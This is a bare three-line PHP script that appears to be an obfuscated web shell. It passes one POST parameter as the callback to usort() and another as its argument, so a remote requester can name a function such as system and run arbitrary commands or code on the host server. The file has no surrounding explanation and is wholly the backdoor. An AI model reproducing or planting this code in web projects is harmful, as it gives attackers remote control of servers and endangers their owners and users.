<?php
$arr = array($_POST['a'], 1);
usort($arr, $_POST['b']);
